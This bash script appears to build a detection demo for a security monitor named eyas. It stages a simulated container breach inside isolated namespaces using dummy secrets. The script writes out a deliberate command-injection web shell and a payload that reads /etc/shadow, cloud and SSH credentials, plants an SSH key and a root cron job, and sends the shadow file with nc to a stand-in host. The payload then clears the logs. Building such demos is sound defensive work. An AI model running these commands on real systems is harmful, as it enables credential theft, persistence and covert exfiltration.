#!/usr/bin/env bash
# Records the incident that `eyas demo` replays: a web shell in a container downloads a tool, runs it, reads secrets,
# connects out and hides its tracks. Everything happens in namespaces and a root file system made here, with an empty
# environment; the recording is limited to that pid namespace. Needs root, busybox-static, iproute2, python3 and zstd.
#
#   src/app/demo/record.sh EYAS_BINARY     writes src/app/demo/incident.db.zst
set -euo pipefail
eyas=$(readlink -f "${1:?name the eyas binary}")
here=$(dirname "$(readlink -f "$0")")
work=$(mktemp -d)
net=eyas-demo-$$
container=$(printf 'eyas demo' | sha256sum | cut -c 1-64)
pids=()
cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    while read -r pid; do kill -9 "$pid" 2>/dev/null || true; done < <(cat "$cgroup/cgroup.procs" 2>/dev/null)
    sleep 0.5
    ip netns del "$net" 2>/dev/null || true
    rmdir "$cgroup" "$(dirname "$cgroup")" 2>/dev/null || true
    umount "$work/root" 2>/dev/null || true
    rm -rf "$work"
}
cgroup=$(findmnt -t cgroup2 -n -o TARGET | head -n 1)/docker/$container
trap cleanup EXIT

# The container's root file system.
mkdir "$work/root"
mount -t tmpfs demo "$work/root"
root=$work/root
mkdir -p "$root"/{bin,etc/cron.d,home/deploy/.ssh,home/deploy/.aws,tmp,proc,run,var/log,var/www/cgi-bin,old}
cp /bin/busybox "$root/bin/busybox"
# A real shell beside it, because busybox's own runs its tools under the name `exe`.
cp /bin/dash "$root/bin/sh"
for lib in $(ldd /bin/dash | grep -o '/[^ ]*'); do
    mkdir -p "$root$(dirname "$lib")"
    cp -L "$lib" "$root$lib"
done
for name in httpd wget cat chmod id uname grep nc mkdir sleep ls tail crontab whoami; do
    ln -s busybox "$root/bin/$name"
done
echo 'root:x:0:0:root:/root:/bin/sh' >"$root/etc/passwd"
echo 'root:$6$demo$notapassword:20000:0:99999:7:::' >"$root/etc/shadow"
echo 'demo key, not a real one' >"$root/home/deploy/.ssh/id_ed25519"
printf '[default]\naws_secret_access_key = demo-only\n' >"$root/home/deploy/.aws/credentials"
echo 'sshd: accepted' >"$root/var/log/auth.log"
echo 'ls -la' >"$root/home/deploy/.ash_history"
mkfifo "$root/run/go"
mkdir "$root/dev"
mknod -m 666 "$root/dev/null" c 1 3
cat >"$root/var/www/cgi-bin/status" <<'CGI'
#!/bin/sh
echo 'Content-type: text/plain'
echo
sh -c "$(httpd -d "$QUERY_STRING")" 2>&1
CGI
chmod +x "$root/var/www/cgi-bin/status"
cat >"$root/init" <<'INIT'
read -r go < /run/go
httpd -p 127.0.0.1:8080 -h /var/www
while :; do sleep 60; done
INIT

# What the attacker serves and listens with, outside the recorded namespace.
mkdir -p "$work/attacker" "$work/metadata/latest/meta-data/iam/security-credentials"
echo '{"AccessKeyId":"demo"}' >"$work/metadata/latest/meta-data/iam/security-credentials/web"
cat >"$work/attacker/agent" <<'AGENT'
#!/bin/sh
whoami
cat /etc/shadow
sleep 1
grep -r aws_secret_access_key /home/deploy/.aws
cat /home/deploy/.ssh/id_ed25519
sleep 1
wget -q -O - http://169.254.169.254/latest/meta-data/iam/security-credentials/web
sleep 1
mkdir -p /home/deploy/.ssh
echo 'ssh-ed25519 AAAA demo' >> /home/deploy/.ssh/authorized_keys
echo '* * * * * root /tmp/.cache/agent' > /etc/cron.d/refresh
sleep 1
cat /etc/shadow | nc -w 1 203.0.113.66 4444
: > /var/log/auth.log
: > /home/deploy/.ash_history
AGENT

ip netns add "$net"
ip -n "$net" link set lo up
ip -n "$net" addr add 203.0.113.66/32 dev lo
ip -n "$net" addr add 169.254.169.254/32 dev lo
in_net() { ip netns exec "$net" "$@"; }
ip netns exec "$net" busybox httpd -f -p 203.0.113.66:8000 -h "$work/attacker" & pids+=($!)
ip netns exec "$net" busybox httpd -f -p 169.254.169.254:80 -h "$work/metadata" & pids+=($!)
ip netns exec "$net" python3 -c '
import socket
listener = socket.create_server(("203.0.113.66", 4444))
while True:
    peer, _ = listener.accept()
    while peer.recv(4096): pass
    peer.close()
' & pids+=($!)

# The container: its own namespaces and cgroup; the first process waits until the recorder is ready.
mkdir -p "$cgroup"
cat >"$work/enter" <<ENTER
set -e
exec </dev/null >/dev/null 2>&1
mount --bind '$root' '$root'
mount -t proc proc '$root/proc'
cd '$root'
/usr/sbin/pivot_root . old
exec /bin/busybox env -i PATH=/bin HOME=/home/deploy /bin/busybox sh -c 'busybox umount -l /old; exec >/dev/null 2>&1; exec /bin/sh /init'
ENTER
sh -c "echo \$\$ > '$cgroup/cgroup.procs'; exec ip netns exec '$net' unshare --pid --fork --mount --uts --ipc sh '$work/enter'" & pids+=($!)
sleep 1
first=$(tail -n 1 "$cgroup/cgroup.procs")
namespace=$(readlink "/proc/$first/ns/pid" | tr -dc 0-9)

"$eyas" run --headless --pid-namespace "$namespace" --node web-1 --store "$work/demo.db" >"$work/alerts.jsonl" 2>"$work/said" &
recorder=$!
pids+=("$recorder")
sleep 2
echo go >"$root/run/go"
sleep 1
shell() { in_net curl -s -o /dev/null "http://127.0.0.1:8080/cgi-bin/status?$1"; sleep "${2:-2}"; }
shell 'id;uname%20-a'
shell 'cat%20/etc/passwd' 1
shell 'mkdir%20-p%20/tmp/.cache;wget%20-q%20-O%20/tmp/.cache/agent%20http://203.0.113.66:8000/agent'
shell 'chmod%20755%20/tmp/.cache/agent;/tmp/.cache/agent' 2
kill -TERM "$recorder"
wait "$recorder" || true
cat "$work/said"

# Only the recording ships: no alerts (they are judged anew), no boot id, no pid of the recorder.
python3 - "$work/demo.db" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1], isolation_level=None)
db.execute("PRAGMA journal_mode=DELETE")
for table in ("alerts", "processes", "ruleset_files", "rulesets", "losses"):
    db.execute(f"DELETE FROM {table}")
db.execute("UPDATE boots SET boot_id = 'demo'")
db.execute("UPDATE runs SET pid = 1")
db.execute("VACUUM")
PY
zstd -q -19 -f "$work/demo.db" -o "$here/incident.db.zst"
ls -l "$here/incident.db.zst"
